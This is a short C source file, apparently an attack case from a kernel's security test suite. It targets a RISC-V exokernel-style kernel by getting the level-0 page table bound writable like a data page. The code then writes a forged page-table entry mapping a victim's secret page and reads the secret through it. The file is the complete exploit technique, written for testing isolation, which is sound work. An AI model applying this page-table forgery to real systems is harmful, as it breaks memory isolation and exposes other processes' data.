// The kernel binds a table to write as it would a data page: so user code makes its own entries.
#include "attack/attack.h"

#define RW (PTE_R | PTE_W)

// The page of the level-0 table that holds PLACE(0)'s entry: by the tables above it, bound to read one by
// one.
static ppn_t table(void) {
    ppn_t ppn = own_root();
    for (u32 shift = 30; shift > 12; shift -= 9) {
        if (rt_map(own_root(), PLACE(1), ppn, PTE_R)) return 0;
        ppn = PTE_PPN(((volatile u64 *)PLACE(1))[PLACE(0) >> shift & 511]);
    }
    return ppn;
}

void attack_table(void) {
    ppn_t ppn = table();
    if (!ppn || exo_bind(own_root(), PLACE(2), ppn, RW, 0).err) return;
    volatile u64 *entries = (volatile u64 *)PLACE(2);
    entries[PLACE(0) >> 12 & 511] = (u64)victim_page(SECRET) << 10 | RW | PTE_V | PTE_U | PTE_A | PTE_D;
    nap(1); // the space is left and entered again: whatever a hart remembers of it is gone
    loot(*(volatile u64 *)PLACE(0));
}
